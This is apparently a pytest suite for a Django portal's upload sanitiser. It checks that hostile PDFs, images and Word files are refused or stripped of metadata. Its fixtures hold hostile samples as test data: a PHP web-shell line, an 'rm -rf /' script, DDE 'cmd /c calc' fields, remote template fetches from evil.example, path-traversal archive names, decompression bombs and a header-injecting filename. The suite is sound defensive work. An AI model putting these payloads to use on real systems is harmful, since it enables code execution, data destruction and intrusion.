"""Hostile and gossiping files: each is refused with words, or comes out clean."""

import io
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import RequestDataTooBig
from django.test import RequestFactory
from django.utils import translation
from PIL import Image

from portal.uploads import cleaning
from portal.uploads.cleaning import CleanedFile, upload_clean
from portal.uploads.handlers import TooLargeUpload
from portal.uploads.jpeg_segments import jpeg_without_metadata
from portal.uploads.kinds import FileKind
from portal.uploads.names import name_clean
from portal.uploads.refusals import Refusal, UploadRefusedError
from portal.uploads.serving import attachment_response
from portal.uploads.words import refusal_words
from tests.factories.uploads import (
    CANARY,
    MAIN,
    PACKAGE,
    RELATIONS,
    TEXT,
    action,
    annotate,
    content_types,
    document_xml,
    docx,
    docx_with_links,
    encoded,
    exif,
    field,
    javascript,
    jpeg,
    jpeg_of_claimed_size,
    link,
    pdf,
    pdf_with_leftover,
    picture,
    png,
    png_of_claimed_size,
    png_text_bomb,
    png_with,
    relationships,
    unpacked_pdf,
    unpacked_zip,
    zipped,
)

Make = Callable[[], bytes]
ARCHIVE = zipped({"a.class": b"\xca\xfe\xba\xbe"})
PAGE = b"<html><script>alert(1)</script></html>"
ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


def encrypted_pdf(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner="owner", R=6))


def deep_pdf() -> bytes:
    def nest(document: pikepdf.Pdf) -> None:
        nested = pikepdf.Array([])
        for _level in range(100):
            nested = pikepdf.Array([nested])
        document.pages[0].obj["/Deep"] = nested

    return pdf(nest)


def without_pages(document: pikepdf.Pdf) -> None:
    del document.pages[0]


def docx_named(name: str) -> bytes:
    return docx({name: b"x"})


def docx_with_duplicates() -> bytes:
    return docx({"word/Document.xml": document_xml()})


def docx_locked() -> bytes:
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def docx_that_lies_about_its_size() -> bytes:
    content = docx({"word/styles.xml": b"x" * 5000})
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/styles.xml"))
    return content[: entry + 24] + (10).to_bytes(4, "little") + content[entry + 28 :]


REFUSED: dict[str, tuple[Make, Refusal]] = {
    # Kinds that are not taken
    "empty": (lambda: b"", Refusal.EMPTY),
    "svg": (lambda: b'<svg xmlns="x"><script>1</script></svg>', Refusal.UNKNOWN_KIND),
    "svg_after_mark": (lambda: b"\xef\xbb\xbf \n<svg></svg>", Refusal.UNKNOWN_KIND),
    "svg_after_xml": (lambda: b"<?xml version='1.0'?><svg/>", Refusal.UNKNOWN_KIND),
    "html": (lambda: PAGE, Refusal.UNKNOWN_KIND),
    "html_after_text": (lambda: b"Dear colleague,\n" + PAGE, Refusal.UNKNOWN_KIND),
    "html_in_capitals": (lambda: b"  <HTML><BODY onload=x>", Refusal.UNKNOWN_KIND),
    "xml_with_entities": (lambda: ENTITIES.encode(), Refusal.UNKNOWN_KIND),
    "php": (lambda: b"<?php system($_GET[0]);", Refusal.UNKNOWN_KIND),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.UNKNOWN_KIND),
    "rtf": (lambda: rb"{\rtf1{\object\objdata 01}}", Refusal.UNKNOWN_KIND),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(x) run", Refusal.UNKNOWN_KIND),
    "windows_program": (lambda: b"MZ\x90\x00" + bytes(200), Refusal.UNKNOWN_KIND),
    "linux_program": (lambda: b"\x7fELF\x02\x01" + bytes(200), Refusal.UNKNOWN_KIND),
    "java_class": (lambda: b"\xca\xfe\xba\xbe\x00\x00", Refusal.UNKNOWN_KIND),
    "old_word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Refusal.UNKNOWN_KIND),
    "zip": (lambda: ARCHIVE, Refusal.UNKNOWN_KIND),
    "excel": (lambda: zipped({"[Content_Types].xml": "x", "xl/a": "x"}), Refusal.UNKNOWN_KIND),
    "seven_zip": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), Refusal.UNKNOWN_KIND),
    "gif": (lambda: encoded("GIF"), Refusal.UNKNOWN_KIND),
    "tiff": (lambda: encoded("TIFF"), Refusal.UNKNOWN_KIND),
    "bmp": (lambda: encoded("BMP"), Refusal.UNKNOWN_KIND),
    "icon": (lambda: encoded("ICO"), Refusal.UNKNOWN_KIND),
    "film": (lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(50), Refusal.UNKNOWN_KIND),
    "moving_png": (
        lambda: png(save_all=True, append_images=[picture().convert("L")]),
        Refusal.UNKNOWN_KIND,
    ),
    "text_with_zero": (lambda: b"name\x00.exe", Refusal.UNKNOWN_KIND),
    "text_in_utf_16": (lambda: "Žiga".encode("utf-16"), Refusal.UNKNOWN_KIND),
    "text_in_windows_1250": (lambda: "Žiga Čuk".encode("cp1250"), Refusal.UNKNOWN_KIND),
    # Two kinds at once
    "pdf_and_zip": (lambda: pdf() + ARCHIVE, Refusal.TWO_KINDS),
    "pdf_and_html": (lambda: b"%PDF-1.7\n" + PAGE + pdf()[9:], Refusal.TWO_KINDS),
    "jpeg_and_jar": (lambda: jpeg() + ARCHIVE, Refusal.TWO_KINDS),
    "png_and_zip": (lambda: png() + ARCHIVE, Refusal.TWO_KINDS),
    "jpeg_and_pdf": (lambda: jpeg(comment=pdf()[:600]), Refusal.TWO_KINDS),
    "jpeg_and_html": (lambda: jpeg(comment=PAGE), Refusal.TWO_KINDS),
    "png_and_html": (
        lambda: png()[:33] + b"\x00\x00\x00\x26tEXt" + PAGE + png()[33:],
        Refusal.TWO_KINDS,
    ),
    "word_and_pdf": (
        lambda: zipped({"%PDF-1.4": b"x", "word/document.xml": document_xml()}),
        Refusal.TWO_KINDS,
    ),
    "text_and_zip": (
        lambda: b"PK list\n" + b"a" * 20 + b"PK\x05\x06" + b" " * 18,
        Refusal.UNKNOWN_KIND,
    ),
    # Broken
    "jpeg_cut_off": (lambda: jpeg()[:-60], Refusal.DAMAGED),
    "jpeg_head_only": (lambda: b"\xff\xd8\xff\xe0", Refusal.DAMAGED),
    "png_cut_off": (
        lambda: encoded("PNG", Image.effect_noise((60, 40), 9))[:-500],
        Refusal.DAMAGED,
    ),
    "png_head_only": (lambda: b"\x89PNG\r\n\x1a\n", Refusal.DAMAGED),
    "png_bent": (lambda: png().replace(b"IDAT", b"IDAX"), Refusal.DAMAGED),
    "webp_cut_off": (lambda: encoded("WEBP")[:-20], Refusal.DAMAGED),
    "heic_cut_off": (lambda: encoded("HEIF")[:-100], Refusal.DAMAGED),
    "heic_head_only": (lambda: b"\x00\x00\x00\x18ftypheic" + bytes(20), Refusal.DAMAGED),
    "pdf_cut_off": (lambda: pdf()[:-200], Refusal.DAMAGED),
    "pdf_head_only": (lambda: b"%PDF-1.7\n", Refusal.DAMAGED),
    "pdf_without_pages": (lambda: pdf(without_pages), Refusal.DAMAGED),
    "word_cut_off": (lambda: docx()[:-80], Refusal.DAMAGED),
    "word_with_broken_xml": (lambda: docx({"word/document.xml": "<a>"}), Refusal.DAMAGED),
    "word_with_broken_links": (lambda: docx({"_rels/.rels": "<a><b/></a>"}), Refusal.DAMAGED),
    "word_with_broken_picture": (lambda: docx({"word/media/a.png": b"x"}), Refusal.DAMAGED),
    "word_with_twins": (docx_with_duplicates, Refusal.DAMAGED),
    "word_that_lies": (docx_that_lies_about_its_size, Refusal.DAMAGED),
    # Bombs
    "png_bomb": (lambda: png_of_claimed_size(60_000, 60_000), Refusal.TOO_COMPLEX),
    "jpeg_bomb": (lambda: jpeg_of_claimed_size(65_000, 65_000), Refusal.TOO_COMPLEX),
    "png_text_bomb": (png_text_bomb, Refusal.DAMAGED),
    "word_bomb": (
        lambda: docx({"word/document.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}),
        Refusal.TOO_COMPLEX,
    ),
    "word_bomb_beside": (
        lambda: docx({f"x/{part}": bytes(900_000) for part in range(130)}),
        Refusal.TOO_COMPLEX,
    ),
    "word_of_many_parts": (
        lambda: docx({f"x/{part}": b"" for part in range(1_100)}),
        Refusal.TOO_COMPLEX,
    ),
    "word_with_entities": (
        lambda: docx({"word/document.xml": ENTITIES + document_xml()}),
        Refusal.ACTIVE,
    ),
    "word_with_picture_bomb": (
        lambda: docx({"word/media/a.png": png_of_claimed_size(60_000, 60_000)}),
        Refusal.TOO_COMPLEX,
    ),
    "pdf_of_many_pages": (lambda: pdf(pages=1_001), Refusal.TOO_COMPLEX),
    "pdf_nested_deeply": (deep_pdf, Refusal.TOO_COMPLEX),
    # Locked
    "pdf_locked": (lambda: encrypted_pdf("secret"), Refusal.ENCRYPTED),
    "pdf_locked_for_changes": (lambda: encrypted_pdf(""), Refusal.ENCRYPTED),
    "word_locked": (docx_locked, Refusal.ENCRYPTED),
    # Word documents that act
    "word_macros": (lambda: docx({"word/vbaProject.bin": b"\xd0\xcf"}), Refusal.ACTIVE),
    "word_macro_type": (
        lambda: docx(
            {
                "[Content_Types].xml": content_types(
                    "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
        Refusal.ACTIVE,
    ),
    "word_template_type": (
        lambda: docx({"[Content_Types].xml": content_types(MAIN.replace("document.main", "tem"))}),
        Refusal.ACTIVE,
    ),
    "word_outside_template": (
        lambda: docx(
            {
                "word/settings.xml": document_xml(),
                "word/_rels/settings.xml.rels": relationships(
                    link(1, "attachedTemplate", "https://evil.example/t.dotm", "External")
                ),
            }
        ),
        Refusal.ACTIVE,
    ),
    "word_outside_picture": (
        lambda: docx_with_links(link(1, "image", "https://evil.example/i.png", "External")),
        Refusal.ACTIVE,
    ),
    "word_outside_object": (
        lambda: docx_with_links(link(1, "oleObject", "file://evil/x", "External")),
        Refusal.ACTIVE,
    ),
    "word_object": (lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), Refusal.EMBEDDED),
    "word_sheet": (lambda: docx({"word/embeddings/a.xlsx": ARCHIVE}), Refusal.EMBEDDED),
    "word_control": (lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), Refusal.ACTIVE),
    "word_other_chunk": (
        lambda: docx_with_links(
            link(1, "aFChunk", "afchunk.mht"),
            body='<w:altChunk r:id="rId1"/>',
            parts={"word/afchunk.mht": b"x"},
        ),
        Refusal.EMBEDDED,
    ),
    "word_chunk_element": (lambda: docx(body='<w:altChunk r:id="rId1"/>'), Refusal.EMBEDDED),
    "word_subdocument": (lambda: docx(body='<w:subDoc r:id="rId1"/>'), Refusal.ACTIVE),
    "word_dde": (lambda: docx(body=field('DDE cmd "/c calc"')), Refusal.ACTIVE),
    "word_dde_in_small": (lambda: docx(body=field(' ddeauto cmd "/c calc"')), Refusal.ACTIVE),
    "word_dde_simple": (
        lambda: docx(body='<w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p>'),
        Refusal.ACTIVE,
    ),
    "word_dde_spelled": (
        lambda: docx(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field("QUOTE 68 68 69")
            + "</w:p>"
        ),
        Refusal.ACTIVE,
    ),
    "word_dde_in_a_note": (
        lambda: docx({"word/footnotes.xml": document_xml(field("DDE cmd"))}),
        Refusal.ACTIVE,
    ),
    "word_fetched_picture": (
        lambda: docx(body=field("INCLUDEPICTURE https://evil.example/x")),
        Refusal.ACTIVE,
    ),
    "word_fetched_text": (lambda: docx(body=field("INCLUDETEXT //evil/x")), Refusal.ACTIVE),
    "word_chart": (
        lambda: docx_with_links(
            link(1, "chart", "charts/chart1.xml"),
            body='<w:p><c:chart xmlns:c="x" r:id="rId1"/></w:p>',
            parts={"word/charts/chart1.xml": b"<a/>"},
        ),
        Refusal.UNSUPPORTED_PART,
    ),
    "word_old_drawing": (
        lambda: docx_with_links(
            link(1, "image", "media/image1.emf"),
            body='<w:p><a:blip xmlns:a="x" r:embed="rId1"/></w:p>',
            parts={"word/media/image1.emf": b"x"},
        ),
        Refusal.UNSUPPORTED_PART,
    ),
    # Names that lead out of the archive
    "word_name_up": (lambda: docx_named("../../etc/cron.d/x"), Refusal.ACTIVE),
    "word_name_up_within": (lambda: docx_named("word/../../x"), Refusal.ACTIVE),
    "word_name_from_the_root": (lambda: docx_named("/etc/passwd"), Refusal.ACTIVE),
    "word_name_with_backslash": (lambda: docx_named("..\\..\\x"), Refusal.ACTIVE),
    "word_name_with_drive": (lambda: docx_named("C:x"), Refusal.ACTIVE),
}


@pytest.fixture(autouse=True)
def temporary_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Whatever this process writes for a while would lie here."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_with_words(name: str, temporary_folder: Path) -> None:
    make, reason = REFUSED[name]
    with pytest.raises(UploadRefusedError) as refused:
        upload_clean(make(), f"{name}.pdf")
    assert refused.value.refusal is reason
    assert list(temporary_folder.iterdir()) == []


def test_hostile_files_are_many_and_different() -> None:
    assert len(REFUSED) >= 60
    contents = {make() for make, _reason in REFUSED.values()}
    assert len(contents) == len(REFUSED)


# --- What gossips comes out clean ---


def with_root(**entries: Any) -> Make:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return lambda: pdf(change)


def with_page_link(kind: str, **entries: Any) -> Make:
    return lambda: pdf(lambda document: annotate(document, "Link", A=action(kind, **entries)))


def with_file(document: pikepdf.Pdf) -> None:
    document.attachments[f"{CANARY}.exe"] = pikepdf.AttachedFileSpec(document, CANARY.encode())


def with_file_note(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(CANARY.encode())
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x", EF=pikepdf.Dictionary(F=stream))
    annotate(document, "FileAttachment", FS=document.make_indirect(spec), Contents=CANARY)


def with_camera_photo(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(
        jpeg(exif=exif()), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
        Width=60, Height=40, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    document.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=stream))


def with_signature(document: pikepdf.Pdf) -> None:
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Name=CANARY, Contents=b"signed")
    annotate(document, "Widget", FT=pikepdf.Name.Sig, T="x", V=document.make_indirect(value))
    fields = document.pages[0].obj["/Annots"]
    document.Root["/AcroForm"] = pikepdf.Dictionary(Fields=fields)


def with_metadata(document: pikepdf.Pdf) -> None:
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]
    document.pages[0].obj["/Metadata"] = document.make_stream(CANARY.encode())


def with_info(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = CANARY


def with_named_script(document: pikepdf.Pdf) -> None:
    names = pikepdf.Array([pikepdf.String("x"), javascript()])
    document.Root["/Names"] = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def with_page_script(document: pikepdf.Pdf) -> None:
    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=document.make_indirect(javascript()))


def with_next_script(document: pikepdf.Pdf) -> None:
    going = action("GoTo", D=pikepdf.Array([document.pages[0].obj]), Next=javascript())
    annotate(document, "Link", A=document.make_indirect(going))


def with_bookmark_script(document: pikepdf.Pdf) -> None:
    entry = document.make_indirect(pikepdf.Dictionary(Title="x", A=javascript()))
    document.Root["/Outlines"] = document.make_indirect(
        pikepdf.Dictionary(First=entry, Last=entry, Count=1)
    )


GOSSIPING_PDF: dict[str, Make] = {
    "author": lambda: pdf(with_info),
    "metadata": lambda: pdf(with_metadata),
    "script_at_opening": with_root(OpenAction=javascript()),
    "scripts_by_name": lambda: pdf(with_named_script),
    "script_of_a_page": lambda: pdf(with_page_script),
    "script_after_a_jump": lambda: pdf(with_next_script),
    "script_in_a_bookmark": lambda: pdf(with_bookmark_script),
    "program": with_page_link("Launch", F=CANARY),
    "address": with_page_link("URI", URI=f"https://evil.example/{CANARY}"),
    "form_sent_away": with_page_link("SubmitForm", F=CANARY),
    "other_document": with_page_link("GoToR", F=CANARY),
    "film": with_page_link("Rendition", JS=CANARY),
    "attached_file": lambda: pdf(with_file),
    "attached_note": lambda: pdf(with_file_note),
    "who_remarked": lambda: pdf(lambda d: annotate(d, "Text", T=CANARY, Contents="x")),
    "private_data": with_root(PieceInfo=pikepdf.Dictionary(Word=pikepdf.String(CANARY))),
    "form_program": with_root(AcroForm=pikepdf.Dictionary(XFA=CANARY, Fields=[])),
    "collection": with_root(Collection=pikepdf.Dictionary(D=pikepdf.String(CANARY))),
    "unknown_entry": with_root(Kept=pikepdf.String(CANARY)),
    "left_over": lambda: pdf_with_leftover(CANARY),
    "photo": lambda: pdf(with_camera_photo),
    "signature": lambda: pdf(with_signature),
    "after_the_end": lambda: pdf() + CANARY.encode(),
}


@pytest.mark.parametrize("name", GOSSIPING_PDF)
def test_a_pdf_comes_out_without_what_it_should_not_tell_or_do(name: str) -> None:
    original = GOSSIPING_PDF[name]()
    assert CANARY.encode() in unpacked_pdf(original) + original
    cleaned = upload_clean(original, "report.pdf")
    assert cleaned.media_type == "application/pdf"
    everything = unpacked_pdf(cleaned.content) + cleaned.content
    assert CANARY.encode() not in everything
    assert TEXT.encode() in everything
    for word in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/Launch"):
        assert word not in everything
    with pikepdf.open(io.BytesIO(cleaned.content)) as document:
        assert not document.docinfo
        assert not document.attachments


def test_a_photo_in_a_pdf_is_still_the_same_picture() -> None:
    with pikepdf.open(io.BytesIO(upload_clean(pdf(with_camera_photo), "x").content)) as document:
        stream = document.pages[0].obj["/Resources"]["/XObject"]["/I"]
        shown = Image.open(io.BytesIO(stream.read_raw_bytes()))
    assert shown.tobytes() == Image.open(io.BytesIO(jpeg())).tobytes()


@pytest.mark.parametrize("broken", [b"", b"\xff\xd8", b"\xff\xd8ab", b"\xff\xd8\xff\xe1\xff\xffx"])
def test_segments_of_a_broken_jpeg_are_read_without_a_crash(broken: bytes) -> None:
    try:
        assert jpeg_without_metadata(broken) == b"\xff\xd8\xff\xd9"
    except ValueError:
        assert broken != b"\xff\xd8"


CAMERA = {"exif": exif(), "comment": CANARY.encode(), "icc_profile": CANARY.encode() * 30}
GOSSIPING_PICTURE: dict[str, Make] = {
    "jpeg_camera_data": lambda: jpeg(exif=exif()),
    "jpeg_comment": lambda: jpeg(comment=CANARY.encode()),
    "jpeg_xmp": lambda: jpeg(xmp=CANARY.encode()),
    "jpeg_profile": lambda: jpeg(icc_profile=CANARY.encode()),
    "jpeg_after_the_end": lambda: jpeg() + CANARY.encode(),
    "jpeg_all": lambda: jpeg(**CAMERA),
    "png_text": lambda: png_with("tEXt"),
    "png_international_text": lambda: png_with("iTXt"),
    "png_private_part": lambda: png_with("prVt"),
    "png_camera_data": lambda: png(exif=exif()),
    "png_after_the_end": lambda: png() + CANARY.encode(),
    "webp_camera_data": lambda: encoded("WEBP", exif=exif()),
    "webp_xmp": lambda: encoded("WEBP", xmp=CANARY.encode()),
    "heic_camera_data": lambda: encoded("HEIF", exif=exif().tobytes()),
}


@pytest.mark.parametrize("name", GOSSIPING_PICTURE)
def test_a_picture_comes_out_with_its_pixels_only(name: str) -> None:
    original = GOSSIPING_PICTURE[name]()
    assert CANARY.encode() in original
    cleaned = upload_clean(original, "photo")
    assert CANARY.encode() not in cleaned.content
    with Image.open(io.BytesIO(cleaned.content)) as image:
        image.load()
        assert image.size == (60, 40)
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}


def test_packed_text_in_a_png_is_gone_too() -> None:
    original = png_with("zTXt")
    assert CANARY in str(Image.open(io.BytesIO(original)).info)
    assert Image.open(io.BytesIO(upload_clean(original, "x").content)).info == {}


def test_a_photo_taken_sideways_stands_upright_without_its_camera_data() -> None:
    image = picture()
    image.paste("red", (0, 0, 60, 20))
    cleaned = upload_clean(jpeg(image=image, exif=exif(orientation=6)), "x.jpg")
    with Image.open(io.BytesIO(cleaned.content)) as upright:
        assert upright.size == (40, 60)
        red, _green, _blue = upright.getpixel((35, 30))  # type: ignore[misc]
        assert red > 200


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16"])
def test_every_kind_of_png_is_taken(mode: str) -> None:
    cleaned = upload_clean(encoded("PNG", Image.new(mode, (9, 9))), "x.png")
    assert cleaned.media_type == "image/png"
    assert Image.open(io.BytesIO(cleaned.content)).size == (9, 9)


def test_the_largest_photo_of_a_phone_is_taken_even_sideways() -> None:
    large = jpeg(image=Image.new("RGB", (8160, 6144)), exif=exif(orientation=6))
    cleaned = upload_clean(large, "large.jpg")
    assert Image.open(io.BytesIO(cleaned.content)).size == (6144, 8160)


def commented(attributes: str) -> Make:
    comment = f'<w:comment w:id="1" {attributes}><w:p/></w:comment>'
    return lambda: docx({"word/comments.xml": document_xml(comment)})


CORE = f'<cp:coreProperties xmlns:cp="x"><a>{CANARY}</a></cp:coreProperties>'
GOSSIPING_WORD: dict[str, Make] = {
    "author": lambda: docx({"docProps/core.xml": CORE}),
    "company": lambda: docx({"docProps/app.xml": CORE}),
    "own_properties": lambda: docx({"docProps/custom.xml": CORE}),
    "small_picture": lambda: docx({"docProps/thumbnail.jpeg": CANARY}),
    "own_data": lambda: docx({"customXml/item1.xml": CORE}),
    "people": lambda: docx({"word/people.xml": CORE}),
    "unknown_part": lambda: docx({"word/secret.xml": CORE}),
    "remarking_author": commented(f'w:author="{CANARY}"'),
    "initials": commented(f'w:initials="{CANARY}"'),
    "time_of_a_remark": commented(f'w:date="{CANARY}"'),
    "author_of_a_change": lambda: docx(
        body=f'<w:p><w:ins w:id="1" w:author="{CANARY}"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'
    ),
    "author_of_a_removal": lambda: docx(body=f'<w:p><w:del w:author="{CANARY}"/></w:p>'),
    "mark_of_a_session": lambda: docx(body=f'<w:p w:rsidR="{CANARY}" w:rsidRDefault="1"/>'),
    "list_of_sessions": lambda: docx(
        {"word/settings.xml": document_xml(f'<w:rsids><w:rsid w:val="{CANARY}"/></w:rsids>')}
    ),
    "variables": lambda: docx(
        {"word/settings.xml": document_xml(f'<w:docVars><w:docVar w:val="{CANARY}"/></w:docVars>')}
    ),
    "remark_in_the_xml": lambda: docx(body=f"<!-- {CANARY} --><?x {CANARY}?>"),
    "path_of_a_picture": lambda: docx(
        body=f'<w:p><wp:docPr xmlns:wp="x" name="{CANARY}" descr="C:\\{CANARY}"/></w:p>'
    ),
    "address_behind_a_text": lambda: docx_with_links(
        link(1, "hyperlink", f"https://evil.example/{CANARY}", "External"),
        body='<w:p><w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>',
    ),
    "photo": lambda: docx_with_links(
        link(1, "image", "media/image1.jpeg"),
        body='<w:p><a:blip xmlns:a="x" r:embed="rId1"/></w:p>',
        parts={"word/media/image1.jpeg": jpeg(exif=exif())},
    ),
    "after_the_end": lambda: docx()[:-2] + len(CANARY).to_bytes(2, "little") + CANARY.encode(),
}


@pytest.mark.parametrize("name", GOSSIPING_WORD)
def test_a_word_document_comes_out_without_what_it_should_not_tell(name: str) -> None:
    original = GOSSIPING_WORD[name]()
    assert CANARY.encode() in unpacked_zip(original)
    cleaned = upload_clean(original, "report.docx")
    assert cleaned.media_type.endswith("wordprocessingml.document")
    everything = unpacked_zip(cleaned.content)
    assert CANARY.encode() not in everything
    assert TEXT.encode() in everything
    assert b"docProps" not in everything


def test_a_word_document_keeps_its_pictures_lists_fields_and_jumps() -> None:
    original = docx_with_links(
        link(1, "image", "media/image1.png"),
        link(2, "styles", "styles.xml"),
        body=field("PAGE  \\* MERGEFORMAT")
        + field(' TOC \\o "1-3" ')
        + '<w:p><w:hyperlink w:anchor="_Toc1"/><a:blip xmlns:a="x" r:embed="rId1"/></w:p>',
        parts={"word/media/image1.png": png(), "word/styles.xml": document_xml().encode()},
    )
    with zipfile.ZipFile(io.BytesIO(upload_clean(original, "x").content)) as archive:
        assert archive.namelist()[0] == "[Content_Types].xml"
        text = archive.read("word/document.xml").decode()
        links = archive.read("word/_rels/document.xml.rels").decode()
        assert Image.open(archive.open("word/media/image1.png")).size == (60, 40)
        assert {entry.date_time[0] for entry in archive.infolist()} == {1980}
    for kept in ('r:embed="rId1"', 'w:anchor="_Toc1"', "FORMAT", "TOC", "w:p>"):
        assert kept in text
    assert f"{RELATIONS}/image" in links
    assert f"{PACKAGE}/relationships" in links
    assert "styles.xml" in links


def test_plain_text_stays_as_it_is() -> None:
    cleaned = upload_clean("\ufeffŽiga, 5 < 6 & 7 > 3\r\n\tČuk".encode(), "x.csv")
    assert cleaned.content.decode() == "Žiga, 5 < 6 & 7 > 3\r\n\tČuk"
    assert cleaned.media_type == "text/plain; charset=utf-8"
    assert cleaned.name == "x.txt"


# --- Names ---

NAMES = [
    ("report.pdf", "report.pdf"),
    ("REPORT.PDF", "REPORT.pdf"),
    ("photo.jpg", "photo.pdf"),
    ("report.pdf.exe", "report.pdf.exe.pdf"),
    ("../../etc/passwd", "passwd.pdf"),
    ("C:\\Users\\Ana\\report.pdf", "report.pdf"),
    ("\u202efdp.exe", "fdp.exe.pdf"),
    ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie x.pdf"),
    ("", "document.pdf"),
    ("...", "document.pdf"),
    (".pdf", "document.pdf"),
    ("Žiga Č. 12.5.", "Žiga Č. 12.5.pdf"),
    ('a"b<c>.pdf', "a b c.pdf"),
]


@pytest.mark.parametrize(("claimed", "kept"), NAMES)
def test_a_name_leads_nowhere_and_ends_in_what_the_file_is(claimed: str, kept: str) -> None:
    assert name_clean(claimed, FileKind.PDF) == kept


def test_a_long_name_is_cut_before_its_ending() -> None:
    name = name_clean("ž" * 500 + ".jpeg", FileKind.JPEG)
    assert len(name) == 120
    assert name.endswith(".jpeg")


def test_the_content_tells_the_kind_whatever_the_name_says() -> None:
    cleaned = upload_clean(jpeg(), "holiday.docx")
    assert (cleaned.name, cleaned.media_type) == ("holiday.jpg", "image/jpeg")


# --- Limits of the process that opens them ---

IN_THE_WORKER = """
import sys
from portal.uploads.worker import limit_this_process
limit_this_process()
try:
    {attempt}
except (MemoryError, OSError) as error:
    print(type(error).__name__)
"""


@pytest.mark.parametrize(
    "attempt",
    ["bytearray(3 * 1024 ** 3)", "f = open(sys.argv[1], 'w'); f.write('x' * 99999); f.flush()"],
)
def test_the_process_can_neither_take_much_memory_nor_write_a_file(
    attempt: str, tmp_path: Path
) -> None:
    result = subprocess.run(  # noqa: S603
        [sys.executable, "-c", IN_THE_WORKER.format(attempt=attempt), str(tmp_path / "out")],
        env={"PYTHONPATH": str(cleaning.IMPORT_ROOT)},
        check=False,
        capture_output=True,
        text=True,
    )
    assert result.stdout.strip() in {"MemoryError", "OSError"}, result.stderr
    assert sum(path.stat().st_size for path in tmp_path.iterdir()) == 0


def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    assert upload_clean(jpeg(), "x").content
    monkeypatch.setattr(cleaning, "WORKER_SECONDS", 0.001)
    with pytest.raises(UploadRefusedError, match="too_complex"):
        upload_clean(jpeg(), "x")


def test_a_process_that_dies_refuses_the_file_and_not_the_server(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(cleaning, "IMPORT_ROOT", Path("/nowhere"))
    with pytest.raises(UploadRefusedError, match="too_complex"):
        upload_clean(jpeg(), "x")
    monkeypatch.undo()
    assert upload_clean(jpeg(), "x").content


def test_when_all_places_are_taken_the_person_is_asked_to_wait(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(cleaning, "WAIT_SECONDS", 0.001)
    for _place in range(cleaning.WORKERS_AT_ONCE):
        cleaning._free_workers.acquire()
    try:
        with pytest.raises(UploadRefusedError, match="busy"):
            upload_clean(jpeg(), "x")
    finally:
        cleaning._free_workers.release(cleaning.WORKERS_AT_ONCE)
    assert upload_clean(jpeg(), "x").content


@pytest.mark.parametrize("refusal", list(Refusal))
def test_every_refusal_has_words_in_both_languages(refusal: Refusal) -> None:
    with translation.override("sl"):
        slovene = refusal_words(refusal)
    with translation.override("en"):
        english = refusal_words(refusal)
    assert slovene
    assert english
    assert slovene != english


def test_a_cleaned_file_does_not_print_its_content() -> None:
    assert "secret" not in repr(CleanedFile("secret", "secret", b"secret"))


# --- On the way in and out ---


def posted(*files: bytes) -> Any:
    uploads = [io.BytesIO(content) for content in files]
    for number, upload in enumerate(uploads):
        upload.name = f"{number}.bin"
    return RequestFactory().post("/", {"file": uploads, "word": "x"})


def test_an_upload_of_three_megabytes_never_touches_the_disk(temporary_folder: Path) -> None:
    content = CANARY.encode() * 130_000
    assert len(content) > 3_000_000
    (upload,) = posted(content).FILES.getlist("file")
    assert upload.read() == content
    assert not hasattr(upload, "temporary_file_path")
    assert list(temporary_folder.iterdir()) == []


def test_a_file_over_the_limit_is_named_with_its_size_but_not_kept(settings: Any) -> None:
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000
    request = posted(b"x" * 1001)
    (upload,) = request.FILES.getlist("file")
    assert isinstance(upload, TooLargeUpload)
    assert upload.size == 1001
    assert request.POST["word"] == "x"
    for reading in (upload.read, upload.open, upload.chunks):
        with pytest.raises(RequestDataTooBig):
            reading()


